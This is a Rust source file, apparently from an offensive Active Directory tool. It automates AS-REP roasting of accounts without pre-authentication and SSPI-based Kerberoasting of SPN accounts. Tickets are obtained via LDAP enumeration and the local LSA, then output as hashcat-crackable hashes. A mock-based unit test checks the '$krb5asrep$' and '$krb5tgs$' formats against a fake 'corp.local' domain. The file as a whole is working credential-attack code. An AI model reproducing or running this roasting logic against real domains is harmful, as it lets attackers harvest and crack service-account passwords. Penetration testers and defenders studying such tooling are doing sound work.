use crate::args::AutoArgs;
use crate::context::RunContext;
use crate::error::Result;
use crate::kerberos::sspi::LsaHarvester;
use crate::kerberos::{
    kdc, run_batch, Batch, BatchOptions, CrackFormat, CredentialSpec, Etype, EtypeChoice,
    KdcEngine, Roaster, SecretKind, TicketHarvester,
};
use crate::ldap::{DirectoryEngine, LdapDirectory};
use crate::output::{render_batches, OutputSink};

pub fn run(args: &AutoArgs, ctx: &RunContext) -> Result<()> {
    let harvester = LsaHarvester::new()?;

    // Bind as the logged-on user.
    let credential = CredentialSpec {
        realm: String::new(),
        username: String::new(),
        secret_kind: SecretKind::None,
        secret: String::new(),
        endpoint: args.dc_ip.clone(),
    };
    let mut directory = LdapDirectory::connect(&credential, ctx)?;
    let kdc = kdc::connect(&args.dc_ip, ctx)?;

    let batches = roast_domain(&mut directory, &kdc, &harvester, args.crack_format, ctx)?;
    render_batches(&batches, &OutputSink::new(args.output.as_deref()))
}

/// ASREPRoast of the accounts without pre-authentication, then an SSPI
/// Kerberoast of the accounts with an SPN.
pub fn roast_domain(
    directory: &mut dyn DirectoryEngine,
    kdc: &dyn KdcEngine,
    harvester: &dyn TicketHarvester,
    crack_format: CrackFormat,
    ctx: &RunContext,
) -> Result<Vec<Batch>> {
    let asrep_users = directory.asrep_users()?;
    let spn_users = directory.spn_users()?;
    log::info!(
        "{}: {} user(s) without pre-authentication, {} SPN user(s)",
        directory.domain_name(),
        asrep_users.len(),
        spn_users.len()
    );

    let options = BatchOptions {
        skip_ticket_granting_accounts: true,
        crack_format,
    };

    let asrep = run_batch(
        &asrep_users,
        &Roaster::PreAuthless { kdc },
        &EtypeChoice::Only(Etype::Rc4).resolve(),
        options,
        ctx,
    );
    if ctx.cancel_flag().is_cancelled() {
        return Ok(vec![asrep]);
    }

    let spn = run_batch(
        &spn_users,
        &Roaster::LocalHarvest { harvester },
        &EtypeChoice::All.resolve(),
        options,
        ctx,
    );

    Ok(vec![asrep, spn])
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::kerberos::engine::{IssuedTicket, KdcError, KdcSession, UserProbe};
    use crate::kerberos::hash::{RoastTicket, TicketSource};
    use crate::kerberos::{EncryptionTypeSet, TargetDescriptor};
    use crate::ldap::{Entity, ASREP_USERS_FILTER, SPN_USERS_FILTER};
    use kerberos_asn1::{Asn1Object, EncryptedData, Ticket};
    use std::collections::HashMap;

    struct Directory;

    fn user(name: &str) -> Entity {
        let mut attrs = HashMap::new();
        attrs.insert("sAMAccountName".to_string(), vec![name.to_string()]);
        Entity {
            dn: format!("CN={}", name),
            attrs,
        }
    }

    impl DirectoryEngine for Directory {
        fn domain_name(&self) -> &str {
            "corp.local"
        }

        fn search(&mut self, filter: &str, _attrs: &[&str]) -> Result<Vec<Entity>> {
            Ok(match filter {
                ASREP_USERS_FILTER => vec![user("legacy")],
                SPN_USERS_FILTER => vec![user("krbtgt"), user("svc_sql")],
                _ => Vec::new(),
            })
        }
    }

    struct Kdc;

    impl KdcEngine for Kdc {
        fn request_as_rep(
            &self,
            target: &TargetDescriptor,
            _etypes: &EncryptionTypeSet,
        ) -> std::result::Result<RoastTicket, KdcError> {
            RoastTicket::new(
                TicketSource::AsRep,
                target.username.clone(),
                target.realm.clone(),
                target.principal(),
                23,
                vec![0xAA; 32],
            )
        }

        fn authenticate(&self, _credential: &CredentialSpec) -> std::result::Result<KdcSession, KdcError> {
            Err(KdcError::Transport("unused".into()))
        }

        fn request_service_ticket(
            &self,
            _session: &KdcSession,
            _target: &TargetDescriptor,
            _etypes: &EncryptionTypeSet,
        ) -> std::result::Result<RoastTicket, KdcError> {
            Err(KdcError::Transport("unused".into()))
        }

        fn request_service_credential(
            &self,
            _session: &KdcSession,
            _service: &TargetDescriptor,
        ) -> std::result::Result<IssuedTicket, KdcError> {
            Err(KdcError::Transport("unused".into()))
        }

        fn probe_username(&self, _realm: &str, _username: &str) -> std::result::Result<UserProbe, KdcError> {
            Ok(UserProbe::Exists)
        }
    }

    struct Harvester;

    impl TicketHarvester for Harvester {
        fn service_ticket(&self, target: &TargetDescriptor) -> std::result::Result<Vec<u8>, KdcError> {
            let mut ticket = Ticket::default();
            ticket.realm = target.realm.to_uppercase();
            ticket.enc_part = EncryptedData::new(18, None, vec![0xBB; 48]);
            Ok(ticket.build())
        }
    }

    #[test]
    fn roasts_both_account_sets_without_krbtgt() {
        let batches = roast_domain(
            &mut Directory,
            &Kdc,
            &Harvester,
            CrackFormat::Hashcat,
            &RunContext::default(),
        )
        .unwrap();

        assert_eq!(batches.len(), 2);

        let asrep: Vec<_> = batches[0].successes().collect();
        assert_eq!(asrep.len(), 1);
        assert!(asrep[0].starts_with("$krb5asrep$23$legacy@corp.local:"));

        let spn: Vec<_> = batches[1].successes().collect();
        assert_eq!(spn.len(), 1);
        assert!(spn[0].starts_with("$krb5tgs$18$svc_sql$CORP.LOCAL$*svc_sql@corp.local*$"));
        assert_eq!(
            batches[1].skipped,
            vec![TargetDescriptor::new("corp.local", "krbtgt")]
        );
    }
}
